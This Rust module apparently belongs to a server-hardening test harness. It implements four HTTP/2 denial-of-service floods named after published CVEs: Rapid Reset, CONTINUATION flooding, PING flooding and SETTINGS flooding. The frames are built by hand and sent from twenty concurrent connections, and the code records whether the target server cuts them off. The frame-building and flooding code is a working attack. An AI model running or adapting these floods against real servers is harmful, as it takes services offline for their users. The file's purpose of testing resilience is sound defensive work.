//! Clients of HTTP/2 who send frames that cost them nothing (RFC 9113; CVE-2023-44487, CVE-2024-27316, CVE-2019-9512, -9515).

use std::time::Duration;

use anyhow::Result;
use tokio::task::JoinSet;
use tokio::time::timeout;

use super::{Ground, Stand, attacker};

/// How many connections send a flood at the same time.
const CLIENTS: usize = 20;

/// How many floods one connection sends at most.
const FLOODS: u32 = 2_000;

/// A connection that is still open then was not cut; an idle one has three times as long.
const PATIENCE: Duration = Duration::from_secs(20);

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `CANCEL`, the reason that a browser gives.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

pub(super) async fn rapid_reset(ground: &Ground) -> Result<Stand> {
    let head = head(ground.target.host());
    flood(ground, move |flood| {
        let mut bytes = Vec::new();
        for number in 0..50 {
            let stream = (flood * 50 + number) * 2 + 1;
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head));
            bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL));
        }
        bytes
    })
    .await
}

pub(super) async fn continuation(ground: &Ground) -> Result<Stand> {
    let head = head(ground.target.host());
    flood(ground, move |flood| {
        if flood == 0 {
            return frame(HEADERS, END_STREAM, 1, &head);
        }
        // A field of four bytes without an index, `a: b`, four hundred times in each piece.
        frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b'].repeat(400)).repeat(5)
    })
    .await
}

pub(super) async fn pings(ground: &Ground) -> Result<Stand> {
    flood(ground, |_| frame(PING, 0, 0, &[0; 8]).repeat(100)).await
}

pub(super) async fn settings(ground: &Ground) -> Result<Stand> {
    flood(ground, |_| frame(SETTINGS, 0, 0, &[]).repeat(100)).await
}

async fn flood(ground: &Ground, make: impl Fn(u32) -> Vec<u8> + Clone + Send + 'static) -> Result<Stand> {
    let mut clients = JoinSet::new();
    for number in 0..CLIENTS {
        let mut wire = ground.http2(attacker(number % 4)).await?;
        let make = make.clone();
        clients.spawn(async move {
            wire.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
            wire.send(frame(SETTINGS, 0, 0, &[])).await?;
            for flood in 0..FLOODS {
                let sent = timeout(PATIENCE, wire.send(make(flood))).await;
                if sent.is_ok_and(|sent| sent.is_err()) {
                    return Ok(Some(flood));
                }
            }
            // The kernel takes a lot for a server that is busy: whether it was cut shows when it is asked for the end.
            anyhow::Ok(wire.closed(PATIENCE).await.is_ok().then_some(FLOODS))
        });
    }
    let (made, mut ended, mut latest) = (clients.len(), 0, 0);
    while let Some(client) = clients.join_next().await {
        if let Some(flood) = client?? {
            ended += 1;
            latest = latest.max(flood);
        }
    }
    let how = format!("cut after {latest} of {FLOODS} bursts at the latest");
    Ok(Stand { made, ended, how })
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, high, middle, low] = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut bytes = vec![high, middle, low, kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A request as literals of HPACK.
fn head(host: &str) -> Vec<u8> {
    let fields = [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", host),
        (":path", "/login/"),
    ];
    let mut bytes = Vec::new();
    for (name, value) in fields {
        bytes.push(0);
        for text in [name, value] {
            bytes.push(u8::try_from(text.len()).unwrap_or_default());
            bytes.extend(text.as_bytes());
        }
    }
    bytes
}
